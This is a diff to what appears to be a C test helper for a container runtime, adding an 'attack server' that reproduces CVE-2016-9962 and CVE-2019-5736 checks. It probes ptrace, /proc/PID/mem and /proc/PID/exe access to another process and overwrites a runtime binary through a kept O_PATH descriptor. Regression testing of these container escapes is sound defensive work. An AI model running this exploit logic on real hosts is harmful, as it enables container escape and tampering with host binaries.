@@ -18,6 +18,15 @@
  *   cat:P     the file's content
  *   sleep:N   sleeps N seconds
  *   exit:N    exits with N
+ *   serve:DIR attack server (CVE tests): runs each command written to DIR/cmd,
+ *             answers in DIR/out, until `quit`. Commands:
+ *             probe PID  probe.<way>=ok|<errno> for each way into PID
+ *                        (ptrace, /proc/PID/{mem,environ,exe,fd/N,cwd,root})
+ *             grab [PID] keep an O_PATH fd of PID's exe (no PID: of a
+ *                        process run as `/proc/self/exe`), try to append
+ *                        to it now
+ *             write      try to append through the kept fd again (run after
+ *                        the grabbed process exited: no ETXTBSY any more)
  */
 #define _GNU_SOURCE
 #include <dirent.h>
@@ -27,7 +36,11 @@
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/ptrace.h>
 #include <sys/stat.h>
+#include <sys/uio.h>
+#include <sys/wait.h>
+#include <time.h>
 #include <sys/sysmacros.h>
 #include <sys/utsname.h>
 #include <unistd.h>
@@ -143,6 +156,130 @@ static void catf(const char *p) {
     fclose(f);
 }
 
+/* --- attack server (CVE-2016-9962, CVE-2019-5736) --- */
+
+static const char *res(int ok) { return ok ? "ok" : strerror(errno); }
+
+static void msleep(int ms) {
+    struct timespec t = {ms / 1000, (ms % 1000) * 1000000L};
+    nanosleep(&t, NULL);
+}
+
+/* Every way a process in the container could reach into PID. */
+static void probe(FILE *o, int pid) {
+    char p[64], buf[256];
+    int ok = ptrace(PTRACE_ATTACH, pid, 0, 0) == 0;
+    fprintf(o, "probe.attach=%s\n", res(ok));
+    if (ok) waitpid(pid, NULL, __WALL), ptrace(PTRACE_DETACH, pid, 0, 0);
+    ok = ptrace(PTRACE_SEIZE, pid, 0, 0) == 0;
+    fprintf(o, "probe.seize=%s\n", res(ok));
+    if (ok) ptrace(PTRACE_INTERRUPT, pid, 0, 0), waitpid(pid, NULL, __WALL), ptrace(PTRACE_DETACH, pid, 0, 0);
+    struct iovec l = {buf, 8}, r = {(void *)0x400000, 8};
+    ok = process_vm_readv(pid, &l, 1, &r, 1, 0) >= 0 || errno == EFAULT;
+    fprintf(o, "probe.vmread=%s\n", res(ok));
+    const char *files[] = {"mem", "environ"};
+    for (int i = 0; i < 2; i++) {
+        snprintf(p, sizeof p, "/proc/%d/%s", pid, files[i]);
+        int fd = open(p, i ? O_RDONLY : O_RDWR);
+        fprintf(o, "probe.%s=%s\n", files[i], res(fd >= 0));
+        if (fd >= 0) close(fd);
+    }
+    const char *links[] = {"exe", "cwd", "root"};
+    for (int i = 0; i < 3; i++) {
+        snprintf(p, sizeof p, "/proc/%d/%s", pid, links[i]);
+        fprintf(o, "probe.%s=%s\n", links[i], res(readlink(p, buf, sizeof buf) >= 0));
+    }
+    snprintf(p, sizeof p, "/proc/%d/exe", pid);
+    int fd = open(p, O_WRONLY | O_APPEND);
+    fprintf(o, "probe.exewrite=%s\n", res(fd >= 0));
+    if (fd >= 0) close(fd);
+    /* The fd directory itself is root's (as we are); its links are the way in. */
+    snprintf(p, sizeof p, "/proc/%d/fd", pid);
+    char **v;
+    int n = list(p, &v, NULL), got = 0, err = EACCES;
+    for (int i = 0; i < n; i++) {
+        char q[128];
+        snprintf(q, sizeof q, "%s/%s", p, v[i]);
+        if (readlink(q, buf, sizeof buf) >= 0) got++;
+        else err = errno;
+    }
+    errno = n < 0 ? errno : err;
+    fprintf(o, "probe.fdlink=%s\n", res(n > 0 && got == n));
+}
+
+static int grabbed = -1;
+
+/* Append a marker through the kept exe fd, reopened for writing. */
+static void append(FILE *o, const char *when) {
+    char p[64];
+    snprintf(p, sizeof p, "/proc/self/fd/%d", grabbed);
+    int fd = open(p, O_WRONLY | O_APPEND);
+    /* Later, wait out other runs of the same file, as the real exploit does. */
+    for (int i = 0; fd < 0 && errno == ETXTBSY && !strcmp(when, "later") && i < 500; i++)
+        msleep(10), fd = open(p, O_WRONLY | O_APPEND);
+    fprintf(o, "%s.open=%s\n", when, res(fd >= 0));
+    if (fd >= 0) {
+        fprintf(o, "%s.write=%s\n", when, res(write(fd, "pwned\n", 6) == 6));
+        close(fd);
+    }
+}
+
+/* Keep an O_PATH fd of PID's exe, or (pid 0) of a process run as /proc/self/exe. */
+static void grab(FILE *o, int pid) {
+    if (grabbed >= 0) close(grabbed), grabbed = -1;
+    if (pid > 0) {
+        char p[64];
+        snprintf(p, sizeof p, "/proc/%d/exe", pid);
+        grabbed = open(p, O_PATH);
+        fprintf(o, "grab.pid=%d\ngrab.opath=%s\n", pid, res(grabbed >= 0));
+    }
+    for (int tries = 0; pid <= 0 && tries < 1000 && grabbed < 0; tries++) {
+        char **v;
+        int n = list("/proc", &v, NULL);
+        for (int i = 0; i < n && grabbed < 0; i++) {
+            char p[64], cmd[64] = "";
+            snprintf(p, sizeof p, "/proc/%s/cmdline", v[i]);
+            int fd = open(p, O_RDONLY);
+            if (fd < 0) continue;
+            ssize_t k = read(fd, cmd, sizeof cmd - 1);
+            close(fd);
+            if (k <= 0 || strcmp(cmd, "/proc/self/exe")) continue;
+            snprintf(p, sizeof p, "/proc/%s/exe", v[i]);
+            grabbed = open(p, O_PATH);
+            fprintf(o, "grab.pid=%s\ngrab.opath=%s\n", v[i], res(grabbed >= 0));
+        }
+        if (grabbed < 0) msleep(10);
+    }
+    if (grabbed >= 0) append(o, "now");
+    else if (pid <= 0) fprintf(o, "grab.pid=none\n");
+}
+
+static void serve(const char *dir) {
+    char cmdp[256], outp[256], tmpp[256];
+    snprintf(cmdp, sizeof cmdp, "%s/cmd", dir);
+    snprintf(outp, sizeof outp, "%s/out", dir);
+    snprintf(tmpp, sizeof tmpp, "%s/out.tmp", dir);
+    for (;;) {
+        char cmd[128] = "";
+        FILE *c = fopen(cmdp, "r");
+        if (!c) {
+            msleep(10);
+            continue;
+        }
+        if (!fgets(cmd, sizeof cmd, c)) cmd[0] = 0;
+        fclose(c);
+        unlink(cmdp);
+        if (!strncmp(cmd, "quit", 4)) return;
+        FILE *o = fopen(tmpp, "w");
+        if (!strncmp(cmd, "probe ", 6)) probe(o, atoi(cmd + 6));
+        else if (!strncmp(cmd, "grab", 4)) grab(o, atoi(cmd + 4));
+        else if (!strncmp(cmd, "write", 5)) append(o, "later");
+        else fprintf(o, "unknown=%s", cmd);
+        fclose(o);
+        rename(tmpp, outp);
+    }
+}
+
 int main(int argc, char **argv) {
     for (int i = 1; i < argc; i++) {
         const char *a = argv[i];
@@ -177,7 +314,8 @@ int main(int argc, char **argv) {
         } else if (!strncmp(a, "exit:", 5)) {
             fflush(stdout);
             return atoi(a + 5);
-        } else {
+        } else if (!strncmp(a, "serve:", 6)) serve(a + 6);
+        else {
             fprintf(stderr, "payload: unknown check %s\n", a);
             return 99;
         }
